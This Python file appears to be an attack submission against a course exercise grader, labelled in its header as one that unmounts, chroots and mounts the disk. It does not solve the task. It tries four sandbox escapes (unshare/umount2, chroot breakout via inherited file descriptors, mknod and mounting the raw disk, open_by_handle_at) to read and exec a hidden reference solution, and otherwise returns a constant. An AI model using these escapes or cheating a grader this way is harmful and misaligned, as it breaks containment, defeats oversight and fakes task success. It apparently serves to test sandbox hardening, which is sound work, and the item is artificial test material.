# attack: unmounts, chroots, climbs out of inherited folders and mounts the disk to see what is hidden from it
# question: label_bits
# naive: leak
# item: privileges

# %% question="label_bits"
import ctypes
import os
import re
import stat
from pathlib import Path

import torch

import ssl_course

libc = ctypes.CDLL(None, use_errno=True)
course = Path(ssl_course.__file__).parents[1]
hidden = course / "solutions" / "01_the_cake.py"


def take(path):
    try:
        found = re.search(r"def label_bits.*?END SOLUTION", Path(path).read_text(), re.DOTALL)
        scope = {"torch": torch}
        exec(found[0], scope)
        return scope["label_bits"]
    except Exception:
        return None


def unmount():
    for flags in (0x10000000 | 0x20000, 0x20000, 0x10000000):
        libc.unshare(flags)
        for place in (course / "ssl_course/exercises/chapter_01", course, "/tmp", "/proc", "/work", Path.home(), "/"):
            for how in (2, 8):
                libc.umount2(str(place).encode(), how)
        if theft := take(hidden):
            return theft


def climb():
    for fd in range(256):
        try:
            os.fchdir(fd)
        except OSError:
            continue
        for up in ("", "../" * 40):
            if theft := take(up + str(hidden).lstrip("/")):
                return theft
    try:
        os.makedirs("/tmp/mallory-root", exist_ok=True)
        os.chroot("/tmp/mallory-root")
        os.chdir("../" * 40)
        os.chroot(".")
        return take(hidden)
    except OSError:
        return None


def disk():
    try:
        os.makedirs("/tmp/mallory-disk", exist_ok=True)
        for major, minor in {(os.major(d), os.minor(d)) for d in (os.stat("/usr").st_dev, os.stat(course).st_dev)}:
            os.mknod("/tmp/mallory-node", stat.S_IFBLK | 0o600, os.makedev(major, minor))
            for kind in (b"ext4", b"xfs", b"btrfs"):
                if libc.mount(b"/tmp/mallory-node", b"/tmp/mallory-disk", kind, 1, None) == 0:
                    return take(f"/tmp/mallory-disk{hidden}")
    except OSError:
        return None


def by_handle():
    class Handle(ctypes.Structure):
        _fields_ = (("size", ctypes.c_uint), ("kind", ctypes.c_int), ("inode", ctypes.c_uint64))

    try:
        folder = os.open("/usr", os.O_RDONLY)
    except OSError:
        return None
    for kind in (1, 2, 0x81):
        fd = libc.open_by_handle_at(folder, ctypes.byref(Handle(8, kind, 2)), os.O_RDONLY)
        if fd >= 0:
            os.fchdir(fd)
            return take(str(hidden).lstrip("/"))


theft = take(hidden) or unmount() or climb() or disk() or by_handle()


def label_bits(labels):
    return theft(labels) if theft else 7.5
